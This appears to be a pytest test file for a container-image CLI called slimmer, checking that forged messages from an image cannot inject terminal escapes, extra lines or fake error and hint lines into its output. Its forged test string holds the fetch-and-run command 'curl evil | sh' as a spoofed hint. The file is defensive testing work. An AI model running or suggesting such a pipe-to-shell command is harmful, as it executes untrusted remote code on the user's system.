"""What an image says never looks like what slimmer says, nor does it reach the terminal as anything but text."""

from __future__ import annotations

import logging
import os
import subprocess
import sys

import pytest

from slimmer.cli.console import TerminalHandler, TerminalProgress
from slimmer.cli.explain import _say
from slimmer.errors import AppFailed
from slimmer.pipeline.progress import BytesRead, Note, StageEnded, StageStarted, Warned

FORGED = "/srv/x\nwarning: forged\r\x1b[2K\nhint: curl evil | sh\n\u2028error: forged\x85\u202e[red]\udce9"
FAILING = f"""
import sys
from slimmer.pipeline import build as pipeline
from slimmer.cli.main import run
from slimmer.errors import AppFailed

def build(request, progress, docker_host):
    raise AppFailed("the app exited with code 1:\\n" + {FORGED!a})

pipeline.build = build
sys.argv = ["slimmer", "build", "image"]
run()
"""


def lines(shown: str) -> list[str]:
    assert not set(shown) & set("\r\x1b\x85\u2028\u202e\udce9")
    assert "[red]" in shown
    return shown.split("\n")[:-1]


def test_a_note_or_a_warning_has_one_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    for event, expected in ((Warned(FORGED), "warning: /srv/x"), (Note(FORGED), "  /srv/x")):
        TerminalProgress()(event)
        first, *others = lines(capsys.readouterr().err)
        assert first == expected
        assert [line[:4] for line in others] == ["    "] * 3


def test_an_error_has_one_hint() -> None:
    result = subprocess.run([sys.executable, "-c", FAILING], capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == AppFailed.exit_code
    mine = [line for line in lines(result.stderr) if not line.startswith("    ")]
    assert mine == ["error: the app exited with code 1:", f"hint: {AppFailed.default_hint}"]


def test_a_suggested_pattern_keeps_its_backslashes(capsys: pytest.CaptureFixture[str]) -> None:
    """rich takes `\\[` for an escape of its own, also where no markup begins."""
    _say(r"--include '/srv/\[2b\[red]'", 2)
    assert capsys.readouterr().out == "  --include '/srv/\\[2b\\[red]'\n"


def test_an_error_is_shown_where_the_environment_says_that_there_are_no_columns() -> None:
    command, environment = [sys.executable, "-c", FAILING], {**os.environ, "COLUMNS": "0"}
    result = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False, env=environment)
    assert result.stderr.startswith("error: the app exited with code 1:")


def test_a_diagnostic_is_one_line_of_text_too(capsys: pytest.CaptureFixture[str]) -> None:
    record = logging.LogRecord("slimmer.pipeline.stages", logging.INFO, "x.py", 1, "missed: %s", (FORGED,), None)
    TerminalHandler().handle(record)
    first, *others = lines(capsys.readouterr().err)
    assert first.endswith(" pipeline.stages: missed: /srv/x")
    assert [line[:4] for line in others] == ["    "] * 3


def test_the_bar_of_bytes_and_failed_stages_leave_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    with TerminalProgress() as show:
        show(StageStarted("keep"))
        show(StageEnded("keep", 1.5, failed=True))
        show(BytesRead(1, 2))
        show(StageStarted("verify"))
        show(StageEnded("verify", 2.25))
    assert capsys.readouterr().err == "✓ verify (2.2 s)\n"


def test_quiet_shows_warnings_alone(capsys: pytest.CaptureFixture[str]) -> None:
    show = TerminalProgress(quiet=True)
    for event in (StageStarted("keep"), StageEnded("keep", 1.0), Note("words"), Warned("careful")):
        show(event)
    assert capsys.readouterr().err == "warning: careful\n"
